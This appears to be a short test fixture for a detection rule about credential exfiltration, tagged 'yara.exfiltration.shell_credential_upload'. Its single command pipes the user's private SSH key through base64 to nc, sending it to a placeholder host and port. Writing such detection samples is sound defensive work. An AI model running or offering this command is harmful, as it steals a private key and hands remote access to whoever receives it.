#!/bin/bash
# ruleid: yara.exfiltration.shell_credential_upload
cat ~/.ssh/id_rsa | base64 -w0 | nc 192.0.2.10 9000
